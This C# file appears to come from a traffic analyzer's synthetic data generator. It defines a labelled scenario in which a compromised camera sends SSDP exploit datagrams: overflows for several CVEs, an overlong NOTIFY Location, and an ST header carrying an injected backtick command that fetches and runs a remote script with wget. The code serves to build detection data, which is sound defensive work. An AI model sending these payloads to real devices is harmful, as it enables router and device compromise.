using System.Net;
using System.Text;
using Analyzer.Labels;
using Analyzer.Generation.Messages;
using Analyzer.Generation.Packets;
using Analyzer.Generation.Randomness;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// A compromised camera throws the published SSDP exploits at the devices around it: the miniupnpd
/// ProcessSSDPRequest over-read (CVE-2013-0229), libupnp's unique_service_name overflow (CVE-2012-5958 family),
/// DD-WRT's long ST (CVE-2021-27137), an overlong NOTIFY Location (MS01-059) and shell metacharacters in ST.
/// </summary>
public sealed class SsdpOverflowProbesScenario : AttackScenario
{
    /// <summary>Largest UDP payload in one IPv4 datagram on a 1500-byte MTU: the PoC fills it without fragmenting.</summary>
    private const int MaxUnfragmentedPayload = 1472;

    public override string Name => "ssdp-overflow-probes";
    public override string Description => "attack: SSDP exploit datagrams (unterminated 1472-byte M-SEARCH, uuid:schemas overflows, long Location, ST injection)";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.Camera.Host;
        ushort port = ctx.EphemeralPort(attacker);
        var router = net.RouterLan;

        // CVE-2013-0229: the ST line is padded with spaces and tabs to the end of the datagram, no CRLF at all.
        var oob = new StringBuilder("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST:uuid:schemas:device:MX:3");
        while (oob.Length < MaxUnfragmentedPayload) oob.Append(oob.Length % 3 == 0 ? '\t' : ' ');
        t = Send(ctx, t, attacker, port, router.V4, Encoding.ASCII.GetBytes(oob.ToString()), "ssdp-miniupnpd-msearch-oob",
            $"{MaxUnfragmentedPayload}-byte M-SEARCH without CRLF");

        // CVE-2012-5958: a uuid:schemas:device: component far longer than libupnp's 180-byte buffers.
        string overflow = "uuid:schemas:device:" + Shellcode(random, 320) + ":end";
        t = Send(ctx, t, attacker, port, net.Chromecast.Host.V4,
            SsdpMessages.MSearch(HttpStyle.Standard, SsdpMessages.Ipv4Host, overflow, 1), "ssdp-libupnp-usn-overflow",
            "ST uuid:schemas:device: component of 320 bytes");

        // CVE-2021-27137: ST: uuid: with more than 128 bytes before the CRLF.
        string ddwrt = "uuid:" + new string('A', 200);
        t = Send(ctx, t, attacker, port, router.V4, SsdpMessages.MSearch(HttpStyle.Standard, SsdpMessages.Ipv4Host, ddwrt, 1),
            "ssdp-ddwrt-st-overflow", "ST uuid: of 205 bytes");

        // MS01-059: a NOTIFY whose Location runs far past 128 bytes, multicast to every Windows SSDP service.
        string location = "http://" + attacker.Ipv4 + ":80/" + new string('B', 400);
        t = Send(ctx, t, attacker, port, Endpoint.Group(IPAddress.Parse("239.255.255.250")),
            SsdpMessages.Notify(false, SsdpMessages.RootDevice, $"uuid:{random.Uuid()}::upnp:rootdevice", location, "Linux/2.6 UPnP/1.0"),
            "ssdp-windows-location-overflow", "NOTIFY Location of 420 bytes", SsdpMessages.Port);

        // Command injection through ST, as in CGI-backed SSDP handlers (D-Link ssdpcgi).
        string injection = "urn:schemas-upnp-org:service:WANIPConnection:1;`cd /tmp; wget http://198.51.100.66/d.sh; sh d.sh`";
        t = Send(ctx, t, attacker, port, router.V4, SsdpMessages.MSearch(HttpStyle.Standard, SsdpMessages.Ipv4Host, injection, 1),
            "ssdp-header-injection", "backticks and wget in ST");
        return t;
    }

    private static long Send(ScenarioContext ctx, long t, Packets.NetHost attacker, ushort port, Endpoint target, byte[] payload,
        string threat, string detail, ushort sourcePort = 0)
    {
        t += ctx.Random.Next(400_000, 2_000_000);
        ctx.Udp(t, attacker.V4, sourcePort == 0 ? port : sourcePort, target, SsdpMessages.Port, payload, target.Host is null ? (byte)2 : null);
        ctx.Mark(LabelNames.ExploitAttempt, threat, attacker.Ipv4, target.Address, t, t, detail);
        return t;
    }

    /// <summary>Filler as exploit payloads carry it: a NOP-like sled of letters, no colon (so the component never ends).</summary>
    private static string Shellcode(GenerationRandom random, int length)
    {
        var text = new StringBuilder(length);
        while (text.Length < length) text.Append(random.Pick(["A", "A", "B", "%n", "AAAA"]));
        return text.ToString(0, length);
    }
}
